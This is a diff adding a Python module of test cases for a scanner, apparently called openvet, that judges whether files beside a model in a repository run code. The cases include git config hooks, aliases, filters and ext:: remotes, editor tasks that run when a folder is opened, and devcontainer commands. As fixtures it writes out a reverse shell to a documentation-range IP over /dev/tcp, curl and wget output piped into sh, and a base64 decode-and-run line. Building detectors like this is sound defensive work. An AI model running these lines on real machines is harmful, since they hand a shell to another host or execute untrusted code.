@@ -1,0 +1,83 @@
+"""What comes beside a model in its repository: settings of tools, scripts, notebooks."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Mapping
+
+from openvet.testing.case import Case
+
+__all__ = ["CASES"]
+
+_LFS_HOOK = "#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || { printf >&2 'git-lfs was not found'; exit 2; }\ngit lfs post-checkout \"$@\"\n"
+_CLONE = (
+    '[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote "origin"]\n\turl = https://example.org/x/y\n'
+    '[filter "lfs"]\n\tprocess = git-lfs filter-process\n\trequired = true\n'
+)
+
+
+def _notebook(source: str) -> str:
+    cell: dict[str, object] = {
+        "cell_type": "code",
+        "metadata": {},
+        "source": [source],
+        "outputs": [],
+        "execution_count": None,
+    }
+    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]})
+
+
+def _tasks(run_on: str) -> str:
+    task = {"label": "x", "type": "shell", "command": "echo hello", "runOptions": {"runOn": run_on}}
+    return json.dumps({"version": "2.0.0", "tasks": [task]})
+
+
+def _case(name: str, technique: str, files: Mapping[str, str], decision: str, *rules: str) -> Case:
+    return Case(
+        id=f"hub/{name}",
+        technique=technique,
+        forge=lambda: {"config.json": b'{"model_type": "bert"}', **{key: text.encode() for key, text in files.items()}},
+        decision=decision,  # type: ignore[arg-type]
+        rules=frozenset(rules),
+    )
+
+
+_TOOL, _SHELL = "hub/tool-command", "hub/shell-command"
+CASES: tuple[Case, ...] = (
+    _case("git-fsmonitor", "Git runs the file system monitor of the settings in the folder",
+          {".git/config": "[core]\n\tfsmonitor = echo hello\n"}, "reject", _TOOL),
+    _case("git-ssh-command", "Git runs the ssh command of the settings in the folder",
+          {".git/config": "# x\n[core]\n\tsshCommand = \"echo hello\"\n"}, "reject", _TOOL),
+    _case("git-alias", "an alias of Git that is a shell command",
+          {".git/config": "[core]\n\tbare = false\n[alias]\n\tst = !echo hello\n"}, "reject", _TOOL),
+    _case("git-filter", "a filter of Git that is a command",
+          {".git/config": '[core]\n\tbare = false\n[filter "x"]\n\tsmudge = echo hello\n'}, "reject", _TOOL),
+    _case("git-ext-remote", "a remote of Git that is a command",
+          {".git/config": '[core]\n\tbare = false\n[remote "origin"]\n\turl = ext::sh -c echo\n'}, "reject", _TOOL),
+    _case("git-hook", "a hook in the folder's own .git",
+          {".git/hooks/post-checkout": "#!/bin/sh\necho hello\n"}, "reject", _TOOL),
+    _case("git-hook-in-python", "a hook in the folder's own .git that is no shell script",
+          {".git/hooks/pre-commit": "#!/usr/bin/perl\nprint 'hello'\n"}, "reject", _TOOL),
+    _case("git-hook-behind-lfs", "a hook that calls Git LFS and something else on one line",
+          {".git/hooks/post-merge": "#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || { echo hello; }; echo hello\n"},
+          "reject", _TOOL),
+    _case("editor-task", "a task that starts when the folder is opened",
+          {".vscode/tasks.json": _tasks("folderOpen")}, "reject", _TOOL),
+    _case("reverse-shell", "a script that hands a shell to another machine",
+          {"run.sh": "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/9 0>&1\n"}, "reject", _SHELL),
+    _case("container-command", "a development container that runs a command",
+          {".devcontainer/devcontainer.json": '{"postCreateCommand": "echo hello"}'}, "review", _TOOL),
+    _case("fetch-and-run", "a script that runs what it fetches",
+          {"install.sh": "#!/bin/bash\ncurl -s https://example.org/x | sudo bash\n"}, "review", _SHELL),
+    _case("decode-and-run", "a script that runs what it decodes",
+          {"install.sh": "#!/bin/sh\necho ZWNobyBoZWxsbw== | base64 -d | sh\n"}, "review", _SHELL),
+    _case("notebook-fetch-and-run", "a cell of a notebook that runs what it fetches",
+          {"a.ipynb": _notebook("!wget -qO- https://example.org/x | sh\n")}, "review", _SHELL),
+    _case("ordinary-clone", "the settings and the hook that a clone with Git LFS has",
+          {".git/config": _CLONE, ".git/hooks/post-checkout": _LFS_HOOK, ".git/HEAD": "ref: refs/heads/main\n"}, "admit"),
+    _case("ordinary-task", "a task of an editor that somebody has to start",
+          {".vscode/tasks.json": _tasks("default")}, "admit"),
+    _case("ordinary-script", "a script that fetches and runs, but not the one by the other",
+          {"run.sh": "#!/bin/bash\ncurl -LO https://example.org/data.txt\npython train.py | tee log.txt\n"}, "admit"),
+    _case("ordinary-notebook", "a notebook that installs a package", {"a.ipynb": _notebook("!pip install torch\n")}, "admit"),
+)  # fmt: skip
